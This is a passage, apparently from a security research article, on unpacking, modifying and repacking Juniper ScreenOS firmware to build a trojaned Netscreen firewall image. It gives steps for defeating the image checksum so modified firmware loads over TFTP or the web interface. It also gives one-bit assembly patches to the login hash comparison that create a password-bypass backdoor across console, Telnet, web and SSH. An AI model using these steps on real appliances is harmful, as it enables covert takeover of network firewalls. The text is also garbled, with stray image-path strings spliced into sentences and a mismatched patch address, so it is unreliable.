over a serial line. This is sloooow.
    gdb> set logging on
    gdb> set height 0
    gdb> set loging file 'dump'
    gdb> x /2048000000i

As a Juniper customer I was able to download current and old versions of
ScreenOS firmware. Many firmware versions were compared as a first step in
determining the make up of the ScreenOS firmware images. The following 4
section structure was revealed by this comparative analysis:

0x00000000  /---\
                        |         HEADER           |
0x00000050  |---|
                        |                          |
0x00002020  |---|
                        |          STUB            |
0x00012940  |---|
                        |                          |
0x00012c00  |---|
                        |     COMPRESSED BLOB      |
                        |                          |
                        |                          |
                        |                          |
                        |                          |
                        |                          ||                          |
~0x004e6000 \---/

This is a similar format for other embedded firmware.

Compressed Firmware Header
The header consists of the following 4 byte fields making up 32 bytes:

- Signature (magic bytes)
- Information 4*1 byte fields:  00, Platform, CPU, Version (eg 0x00110A12)
- Offset  (for program entry point)
- Address (for program entry point)
- Size
- unknown
- unknown
- Checksum

Points to note are
- the size field        = (size of the compressed blob - 79 bytes)
- signature             = 0xEE16BA81
- offset            = 0x00000002
- address           = 0x02860000

and these were always the same in the version 5 firmwares that were
compared. Version 4 firmwares differed but were similar but these are old
versions and I will not discuss them here.


The stub in the firmware image is responsible for uncompressing the blob
when the device is booted. This stub contains strings relating to the LZMA
algorithm so it was assumed that the compressed blob is an LZMA compressed
binary blob. From the Wikipedia LZMA entry: "Decompression-only code for
LZMA generally compiles to around 5kB and the amount of RAM required
during decompression is principally determined by the size of thesliding
window used during compression. Small code size and relatively low memory
overhead, particularly with smaller dictionary lengths, and free source
code make the LZMA decompression algorithm well-suited to embedded

Free LZMA utilities are available here:http://tukaani.org/lzma/ and as
prebuilt packages for most *nix distributions.

Compressed Blob

The compressed blob is LZMA compressed and contains a header but this is a
non-standard header. There are non-standard signature bytes for the stub
to recognise the blob and the LZMA uncompresssed size field is missing.

The standard LZMA header has 3 fields:
    options         (2 bytes)
    dictionary_size     (4 bytes)
    uncompressed_size   (8 bytes)

The blob header also has 3 fields but slightly different:
    signature       (4 bytes) = 0x1440598
    options         (2 bytes)
    dictionary_size     (8 bytes)

The dictionary size is used as aparameter in the compression algorithm.
LZMA is a dictionary coder which I will not explain here but instead point
the reader to http://en.wikipedia.org/wiki/Dictionary_coder.

One approach would have been to attempt to use the header information and
the stub to decompress the compressed blob but given a lack of PowerPC
hardware a different approach was taken. The approach used was to cut out
the compressed blob from the firmware and attempt to decompress it in
isolation using any tools available. Again using comparative anlalysis,
the freely available LZMA utilities and direct modification of the header
bytes the following methods for decompression andcompression of the blob
were reverse engineered.

The decompression process:
1. Cut out the compressed blob from the image file.
2. Insert uncompressed_size equal to -1 which equals unknown size
    (-1 uncompresseed size = 0xFFFFFFFFFFFFFFFF)
3. Modify the dictionary_size from 0x00200000 to 0x00008000.
4. Decompress the file using standard LZMA utilities.

The modification of the dictionary size was found by fuzzing the field and
then attempting to decompress. The decompression reports an error at theend of the decompression so it is important to decompress to a stream
otherwise the decompressed data is lost.

The recompression process:
1. Compress with standard LZMA utilities using specific compression
2. Modify the dictionary_size field 0x00002000 to 0x00200000.
3. Delete the  uncompressed_size field of 8 bytes.
4. Concatenate with the header from the original image file.

Proof of concept python scripts are provided in the Addendum which can
perform the packing and unpacking of ScreenOS images. The LZMA utilities
are necessary for operation of these scripts.The recompressed firmware successfully loads onto a Netscreen and runs.
More research into the dictionary size field was going to be carried out
but once loading offirmware was successful there were many other more
interesting avenues of research which took precedence.

--[ 0x6 - Night of the Living Netscreen

So at this stage we have successfully reverse engineered the compression
of the firmware. We are also in a position to reverse engineer the
operating system obtained from the decompression.

The steps are:

1. Cut out the compressed blob section of the image
2. Uncompress the blob.
3. Re-compress the modified binary.
4. Concatenate the original image header and the modified blob.
5. Upgrade the Netscreen with the modified operating system.So we can install the firmware if we have physical access to the device or
some kind of funky remote serial console. But we want to be able to
install firmware over the network. However on attempting to upload a new
firmware via the device web interface or through the tftp command:

    ns5xt>save software from tftp x.x.x.xfilename to flash

loading fails with a 'bad image file data' error. Note the insecure
transport mechanism for the firmware. This is vulnerable to a man in the
middle attack.

We need to fix the size and checksum fields of the compressed firmware
header. We know the size field needs to be set equal to the compressed
firmware size - 79 bytes. But we do not yet know how the checksum field is
calculated. To obtain the checksum algorithm we need to disassemble the
uncompressed blob we have from decompressing the firmware. We will now
discuss disassembling the binary and then move onto addressing the
checksum issue.

--[ 0x7 - Autopsy

The uncompressed blob is an approximately 20Mb binary.  We want to load
the binary into IDA (a disassembler with PowerPC support) but we need a
loading address so that relative addresses within the program point to thecorrect memory locations. Initially the binary was loaded at address
0x00000000 but it is obvious that pointers to strings are not referencing
the beginning of strings.

The uncompressed blob contains a header with similarities to the
compressed firmware header. The header fields contain a virtual address
and a header size. If we subtract the header size from the virtual address
we have the loading address.

Uncompressed Blob Header

        signature   offset      address
00000000:   EE16BA81    00010110    00000020    00060000

ScreenOS Loading Address = 0x00060000 - 0x00000020 =  0x0005FFE0

This can be confirmed with live debugging by using GDB and querying the
memory at 0x0005FFE0 to check that the signature bytes 0xEE16BA81 are at
that memory location.

We can now rebase the program in IDA to use the correct loadingaddress.
Now we have a correctly loaded binary but we do not know anything about
the structure of the binary or the sections it may contain as the binary
is not a recognised executable type. Code and data were marked using IDC
scripts which searched for function prologs (0x9421F*) and string cross
references.  The approximate segments of the binary found by scripting and
manual examination are sketched out in the very simplified illustration

0x0005ffe0  /---\
                        |       HEADER &          |
                        |       SCREENOS CODE     |
0x00c40000  |---||       SCREENOS DATA     |
0x00f0efd8  |---|
                |                   FILES     |
0x011ddab4  |---|
                        |       BOOT LOADER CODE  |
0x011f2b4e  |---|
                        |       BOOT LOADER DATA  |
0x0140e04c  |---|
                        |       0xFFs             |
0x014171cf  |---|
                        |   other stuff       |

To build up a picture of the binary it is useful to search for functions
such as str_cmp, file_read, file_write etc and use error strings to
identify and name functions in IDA.

The boot loader can be cut out and disassembled separately with a loading
address of0x00000000.

--[ 0x8 - Netscreen of the Dead

At this stage we are now ready to construct a ScreenOS Trojaned Firmware.
Any trojan has three basic requirements:

1. Delivery: It must be able to be installed remotely.
2. Access: It must provide remote access / communication.
3. Payload: It must provide attacker supplied code execution.

During this research all modification of the ScreenOS binary to construct
the trojaned version was hand crafted assembly inserted via hex editing
the binary firmware.

1. First Bite [ Delivery ]
Unlike loading a firmware over a serial console at boot time, the
checksum and size fields in the header are checked when images are loaded
over the network via TFTP or the Web interface

00000000: EE16BA81 00110A12 00000020 02860000
00000010: 004E6016 15100050 29808000 C72C15F7   <-CHECKSUM

The checksum is calculated as part of the image loading sequence and a
disassembly of the relevant function is shown below...but on firmware
loading any bad header checksum value is printed to the console with an
error message.

If we binary modify the firmware to print out the correct checksum value
we would have a 'checksum calculator' firmware which we can load modified
firmware against to calculate valid checksums. So we don't have to
calculate or reverse engineer the checksum algorithm. This checksum
calculator firmware can be loaded over serial console and new images weneed to calculate the checksum for are loaded over TFTP. The correct
checksum will then be output to the console. This correct header value can
then be inserted into the firmware header by direct hex editing of the
image file.

With a correct checksum field we can now load modified images via tftp and
the web interface.

Below is the ScreenOS code we need to modify to create a checksum
calculator image.

008B60E4  lwz  %r4, 0x1C(%r31)      # %r4 contains header checksum
008B60E8  cmpw %r3, %r4             # %r3
contains calculated checksum
008B60EC  beq  loc_8B6110           # branch away if checksums matched
008B60F0  lis  %r3, aCksumXSizeD@h  # " cksum :%x size :%d\n"
008B60F4  addi %r3, %r3, aCksumXSizeD@l
008B60F8  lwz  %r5, 0x10(%r31)
008B60FC  bl   Print_to_Console     # %r4 is printed to console
008B6100  lis  %r3, aIncorrectFirmw@h   # "Incorrect firmware data"
008B6104  addi %r3, %r3, aIncorrectFirmw@l
008B6108  bl   Print_to_Console

If we replace

    008B60E8  cmpw %r3, %r4         # %r3 contains calculated checksum


    008B60EC mr   %r4,%r3           # print out calculated checksum

we have our checksum calculator firmware.

For interested readers two checksum algorithms were identified at
addresses and reverse engineering of these is certainly possible.

One Bit{e} [ Access ]
The most stealthy and elegant backdoor is to subvert the existing login
mechanism. It may be possible to spawn a shell on another external port
but this may be noticed from an external scan of the appliance and
compromises the stealthiness ofthe trojaned firmware so further research
into this was not carried out.

Serial console, Telnet, Web and SSH all compare password hashes and use
the same function for that comparison. Additionally SSH falls back to
password authentication if the client does not supply a key, unless
password authentication has been explicitly disabled.

A one bit patch to the firmware provides a login with any password if a
valid username is supplied.

003F7F04  mr    %r4, %r27
003F7F08  mr    %r5, %r30
003F7F0C  bl    COMPARE_HASHES      # does a string compare
003F7F10  cmpwi %r3, 0                  # equal if match
003F7F14  bne   loc_3F7F24          # login fails if not equal (branch)
003F7F18  li    %r0, 2
003F7F1C  stw   %r0, 0(%r29)
003F7F20  b     loc_3F7F28

If we replace

    003F7F10  cmpwi %r3, 0      # equal if match0x397F30 cmpwi %r3, 1           # equal if they don't match

then any password EXCEPT a valid password will provide a login.

We could patch

    003F7F14 bne   loc_3F7F24   # login fails if not equal (branch)


    003F7F14 bl   loc_3F7F24    # login never fails (branch)to allow any password with a valid username to work.

Infection [ Payload ]

The last step for our working trojan is to be able to inject code into the
firmware. First we need to find somewhere to inject the code we want
executed. The ScreenOS code section contains a block of nulls large enough
